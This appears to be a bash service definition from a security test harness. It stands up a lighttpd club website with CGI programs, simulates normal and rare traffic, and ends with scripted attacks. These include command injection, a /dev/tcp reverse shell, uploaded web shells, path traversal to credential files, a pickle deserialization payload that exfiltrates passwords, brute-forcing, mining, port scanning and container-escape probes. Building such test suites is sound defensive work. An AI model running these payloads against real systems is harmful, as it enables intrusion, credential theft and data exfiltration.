# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# lighttpd with the pages of a club, and with CGI programs in shell and Python. Its configuration and
# the programs are in services/lighttpd.

# shellcheck disable=SC2034,SC2154 # lib.bash and rare.bash read these variables, and set others
set=test containers=(lighttpd) port=80 data_directory=/srv/www
configuration_file=/etc/lighttpd/lighttpd.conf
health=(/usr/bin/curl -fsS -o /dev/null http://127.0.0.1/)
image_packages=(lighttpd lighttpd-mod-deflate python3 curl bash coreutils findutils grep sed gzip dash
	base-files libc-bin tzdata hostname)
rare_own=(new_program new_page upstream_gone failing_program slow_program full_restart aborted_transfer
	guestbook_lost)

image_prepare() {
	local tree=$1 i site=$1/srv/www/site
	mkdir -p "$site"/{docs,files,css,admin} "$tree"/srv/www/{cgi-bin,data} "$tree"/etc/lighttpd/conf.d \
		"$tree"/var/log/lighttpd "$tree"/var/cache/lighttpd/{deflate,uploads}
	for i in $(seq 30); do
		printf '<html><h1>Page %d of the club</h1>%s</html>\n' "$i" "$(seq $((i * i)))" >"$site/docs/page$i.html"
	done
	for i in 1 8 40 300 2000; do
		head -c "${i}K" /dev/urandom >"$site/files/$i.bin"
	done
	echo '<html><link rel=stylesheet href=/css/site.css><a href=/docs/page1.html>Club</a></html>' \
		>"$site/index.html"
	seq 200 >"$site/css/site.css"
	echo 'The members: ann, bob, eve.' >"$site/admin/members.txt"
	cp "$here"/services/lighttpd/cgi/* "$tree/srv/www/cgi-bin/"
	cp "$here"/services/lighttpd/lighttpd.conf "$tree/etc/lighttpd/"
	printf '2026-01-01 00:00:00\tann\thello %s\n' one two three >"$tree/srv/www/data/guestbook.txt"
	echo 'admin:sunshine' >"$tree/etc/lighttpd/users"
	chroot "$tree" /usr/bin/python3 -m compileall -q /usr/lib/python3.11 >/dev/null || true
	chown -R 33:33 "$tree"/srv/www/{data,site/files} "$tree"/var/log/lighttpd "$tree"/var/cache/lighttpd
	chown 33:33 "$tree/etc/lighttpd/users"
	chmod 400 "$tree/etc/lighttpd/users"
}

container_fields() {
	arguments=(/usr/sbin/lighttpd -D -f /etc/lighttpd/lighttpd.conf)
	volumes=(/var/log/lighttpd /srv/www/data)
}

peers() {
	upstream_start
}

upstream_start() {
	app_peer_start upstream 127.0.0.1
}

ready() {
	fetch / -o /dev/null
}

# ---- ordinary work ----

# cgi PROGRAM [CURL OPTION…]
cgi() {
	local program=$1
	shift
	fetch "/cgi-bin/$program" "$@"
}

# cgi_upload NAME: what comes on standard input.
cgi_upload() {
	client_stdin curl -sS --max-time 20 -o /dev/null -F "file=@-;filename=$1" \
		"http://$own_address/cgi-bin/upload.py"
}

request() {
	local n
	n=$(between 1 30)
	case $((RANDOM % 20)) in
	0 | 1 | 2) fetch "/docs/page[1-$n].html" -o /dev/null ;;
	3) fetch "/docs/page$n.html" --compressed -o /dev/null ;;
	4) fetch "/files/$(pick 1 8 40 300).bin" -o /dev/null ;;
	5) fetch /files/2000.bin -H 'Range: bytes=1000-900000' -o /dev/null ;;
	6) fetch / -o /dev/null && fetch /css/site.css --compressed -o /dev/null ;;
	7) fetch /files/ -o /dev/null ;;
	8) fetch "/none/$RANDOM" -o /dev/null ;;
	9) client ab -q -r -c "$(between 1 6)" -n "$((n * 4))" -k "http://$own_address/docs/page$n.html" ;;
	10) cgi search.sh -G --data-urlencode "q=$(pick club page 'page 7' zebra)" -o /dev/null ;;
	11 | 12) cgi "count.sh?page=$(pick home docs files none)" -o /dev/null ;;
	13) cgi guestbook.py -o /dev/null ;;
	14) cgi guestbook.py -o /dev/null --data-urlencode "name=$(pick ann bob eve)" \
		--data-urlencode "text=$(pick 'Good day' 'See you' 'Thanks, & more')" ;;
	15) head -c "$(between 100 90000)" /dev/zero | cgi_upload "photo$n.bin" ;;
	16) cgi "download.py?file=$(pick 1 8 40 none).bin" -o /dev/null ;;
	17) cgi "weather.py?town=$(pick Oslo Rome Lima)" -o /dev/null ;;
	18) dates_request "$n" ;;
	19) admin_request ;;
	esac
}

# dates_request NUMBER: with the cookie that the program gave.
dates_request() {
	local cookie
	cookie=$(cgi dates.py -i -d "date=2026-03-$1" -d "member=$(pick ann bob)" -d "first=$(($1 % 7))" |
		sed -n 's/^Set-Cookie: \(wishes=[^[:space:]]*\).*/\1/Ip')
	cgi "dates.py?month=$(($1 % 12 + 1))" -b "$cookie" -o /dev/null
}

admin_request() {
	fetch /admin/members.txt -u "admin:$(pick sunshine sunshine sunshne)" -o /dev/null
	fetch /admin/status -u admin:sunshine -o /dev/null
	cgi admin-backup.sh -u admin:sunshine -o /dev/null
}

# It reads its configuration again, without an end.
reload_service() {
	container_signal lighttpd USR1
}

administer() {
	local logs
	logs=$(volume_path lighttpd /var/log/lighttpd)
	mv "$logs/access.log" "$logs/access.log.1"
	container_signal lighttpd HUP
	sleep 1
	reload_service
}

# ---- rare events ----

rare_new_program() {
	keep_file lighttpd /srv/www/cgi-bin/about.sh
	printf '#!/bin/sh\nprintf "Content-Type: text/plain\\r\\n\\r\\n"\nuname -sr\n' \
		>"$(image_path lighttpd /srv/www/cgi-bin/about.sh)"
	cgi about.sh
}

rare_new_page() {
	keep_file lighttpd /srv/www/site/docs/news.html
	keep_file lighttpd /srv/www/site/docs/news.json
	echo '<html>new</html>' >"$(image_path lighttpd /srv/www/site/docs/news.html)"
	fetch /docs/news.html -o /dev/null
	echo '{"page": "new"}' >"$(image_path lighttpd /srv/www/site/docs/news.json)"
	fetch /docs/news.json -o /dev/null
}

rare_upstream_gone() {
	peer_stop upstream
	sleep 12
	upstream_start
}

# A traceback; and a program that is not there.
rare_failing_program() {
	cgi dates.py -b 'wishes=nonsense' -o /dev/null
	cgi "dates.py?month=13" -o /dev/null
	cgi none.py -o /dev/null
}

# The client is gone before the program answers.
rare_slow_program() {
	keep_file lighttpd /srv/www/cgi-bin/slow.py
	printf 'import time\ntime.sleep(6)\nprint("Content-Type: text/plain\\r\\n\\r\\nlate")\n' \
		>"$(image_path lighttpd /srv/www/cgi-bin/slow.py)"
	cgi slow.py --max-time 2
	sleep 6
}

# A site more, and a port: the sockets are opened anew.
rare_full_restart() {
	# shellcheck disable=SC2016 # the variable is lighttpd's
	echo '$SERVER["socket"] == ":8080" { server.document-root = "/srv/www/site/docs" }' \
		>"$(image_path lighttpd /etc/lighttpd/conf.d/docs.conf)"
	reload_service
	sleep 3
	rm "$(image_path lighttpd /etc/lighttpd/conf.d/docs.conf)"
	reload_service
}

rare_aborted_transfer() {
	client curl -sS --limit-rate 100k --max-time 2 -o /dev/null "http://$own_address/files/2000.bin"
	head -c 6000000 /dev/zero | cgi_upload large.bin
	cgi 'download.py?file=2000.bin' --limit-rate 100k --max-time 2 -o /dev/null
}

# Removed by mistake, and put back from a copy.
rare_guestbook_lost() {
	session lighttpd /bin/sh -c 'cd /srv/www/data && cp -p guestbook.txt /root/copy.txt && rm guestbook.txt'
	cgi guestbook.py -o /dev/null
	session lighttpd /bin/sh -c 'cp -p /root/copy.txt /srv/www/data/guestbook.txt && rm /root/copy.txt'
}

# ---- attacks ----

# search_shell COMMANDS: by the word of a search; their output on stdout.
search_shell() {
	cgi search.sh -G --data-urlencode "q=none\" none.html; $(tr -s '\n\t' ' ' <<<"$1"); echo \""
}

attack_command_injection() {
	harm exec /usr/bin/id
	harm read /etc/lighttpd/users
	search_shell 'id; cat /etc/lighttpd/users' | tee "$stage/answer" | grep -q admin:sunshine
	grep -q uid=33 "$stage/answer"
}

attack_reverse_shell() {
	harm exec /usr/bin/bash
	harm connect "$peer_address:4444"
	thief_shell 'id; ls /srv/www; exit'
	search_shell "bash -c 'exec bash -i >/dev/tcp/$peer_address/4444 2>&1 <&1'"
	thief_got uid=33
}

attack_web_shell() {
	harm write '/srv/www/site/files/note.sh*'
	harm exec /usr/bin/id
	# shellcheck disable=SC2016 # the container's shell
	printf '%s\n' 'printf "Content-Type: text/plain\r\n\r\n"' \
		'sh -c "$(printf %s "$QUERY_STRING" | sed s/+/\ /g)"' |
		cgi_upload note.sh
	fetch '/files/note.sh?id;uname+-a' | grep -q uid=33
}

# A program in Python, that works without any other program.
attack_web_shell_python() {
	harm write '/srv/www/site/files/note.py*'
	harm read /etc/lighttpd/users
	harm read '/proc/*/environ'
	# shellcheck disable=SC2028 # the escapes are Python's
	echo 'import glob
print("Content-Type: text/plain\r\n\r\n" + open("/etc/lighttpd/users").read())
print(open("/proc/self/environ").read(), glob.glob("/proc/*/cmdline"))' | cgi_upload note.py
	fetch /files/note.py | tr '\0' '\n' >"$stage/answer"
	grep -q admin:sunshine "$stage/answer" && grep -q SITE_KEY "$stage/answer"
}

attack_traversal() {
	harm read /etc/lighttpd/users
	cgi 'download.py?file=../../../../etc/lighttpd/users' | grep -q admin:sunshine
}

# The environment holds the site's key, in every program's process.
attack_environment_theft() {
	harm read '/proc/*/environ'
	cgi 'download.py?file=../../../../proc/self/environ' | tr '\0' '\n' | grep -q SITE_KEY=key-of
}

# unpickled CODE: run by the program of the dates.
unpickled() {
	local cookie
	cookie=$(client python3 -c 'import base64, pickle, sys
class Bait:
    def __reduce__(self):
        return exec, (sys.argv[1], {})
print(base64.urlsafe_b64encode(pickle.dumps(Bait())).decode())' "$1")
	cgi dates.py -b "wishes=$cookie"
}

attack_pickle() {
	harm read /etc/lighttpd/users
	harm connect "$peer_address:4444"
	thief_begin
	unpickled "import socket
socket.create_connection(('$peer_address', 4444)).sendall(open('/etc/lighttpd/users', 'rb').read())"
	thief_got admin:sunshine
}

# The server lets a second pass after each wrong password.
attack_brute_force() {
	local p
	harm read /srv/www/site/admin/members.txt
	for p in 123456 password qwerty letmein dragon football iloveyou master summer sunshine; do
		! fetch /admin/members.txt -u "admin:$p" | grep -q members || return 0
	done
	return 1
}

attack_miner() {
	harm exec /tmp/.kworkerd
	harm connect "$peer_address:3333"
	armoury_begin
	search_shell "$(miner_commands /tmp/.kworkerd)"
	pool_got
}

attack_scan() {
	harm exec /usr/bin/bash
	harm connect "$peer_address:22"
	# shellcheck disable=SC2016 # the container's shell
	search_shell "bash -c 'for p in 21 22 23 25 53 80 443 3306 5432 6379 8000 8080 {9000..9100}; do
		(exec 3<>/dev/tcp/$peer_address/\$p) && echo open \$p; done 2>/dev/null'" | grep -q 'open 8000'
}

# What an attacker looks for first: who am I, what is here, what may I change.
attack_survey() {
	harm exec /usr/bin/find
	harm exec /usr/bin/id
	harm read /usr/lib/os-release
	search_shell 'id; uname -a; cat /etc/passwd /etc/os-release /proc/1/cgroup /proc/net/tcp;
		find / -xdev -perm -4000 -type f; find /etc -writable -type f; ls -la /root /srv' | grep -q uid=33
}

attack_escape() {
	harm call mount
	harm call unshare
	harm call setns
	harm call ptrace
	unpickled "import ctypes, os
libc = ctypes.CDLL(None)
print('Content-Type: text/plain\r\n\r\n')
print('mount', libc.mount(b'none', b'/mnt', b'tmpfs', 0, None))
print('setns', libc.setns(0, 0))
print('ptrace', libc.ptrace(16, 1, None, None))
for path in '/proc/sys/kernel/core_pattern', '/sys/fs/cgroup/release_agent', '/proc/1/root/etc/shadow':
    try:
        print(path, os.open(path, os.O_RDWR))
    except OSError as e:
        print(e)
print('unshare', libc.unshare(0x10020000))" | grep -q '^unshare'
}

# Code inside the server, without any request, starts a shell.
attack_code_shell() {
	harm exec /usr/bin/dash
	harm exec /usr/bin/id
	inject lighttpd 'sbin/lighttpd' 'print (int) system("id >/tmp/out; cat /etc/lighttpd/users >>/tmp/out")'
	grep -q uid=33 "$(image_path lighttpd /tmp/out)"
}

# Every file and all that visitors wrote, one after another.
adaptive_dump() {
	local n
	harm read '/srv/www/site/files/*.bin'
	harm read /srv/www/data/guestbook.txt
	for n in 1 8 40 300 2000; do
		cgi "download.py?file=$n.bin" -o /dev/null
	done
	cgi 'download.py?file=../../data/guestbook.txt' | grep -q ann
}

# What visitors wrote is written anew, by programs that the searches start.
adaptive_tamper() {
	harm write /srv/www/data/guestbook.txt
	search_shell 'grep -h hello ../../data/guestbook.txt | sed s/ann/mallory/ >../../data/count-1.1;
		cat ../../data/count-1.1 >../../data/guestbook.txt'
	cgi guestbook.py | grep -q mallory
}

# The guest book, in a question to the partner's server.
adaptive_upstream() {
	harm read /srv/www/data/guestbook.txt
	harm connect "$peer_address:8000"
	unpickled "import urllib.parse, urllib.request
book = open('/srv/www/data/guestbook.txt').read()
urllib.request.urlopen('http://peer.example:8000/weather?' + urllib.parse.urlencode({'town': book}))"
	until_true 10 grep -q 'town=.*hello' "$stage/peer-upstream.log"
}
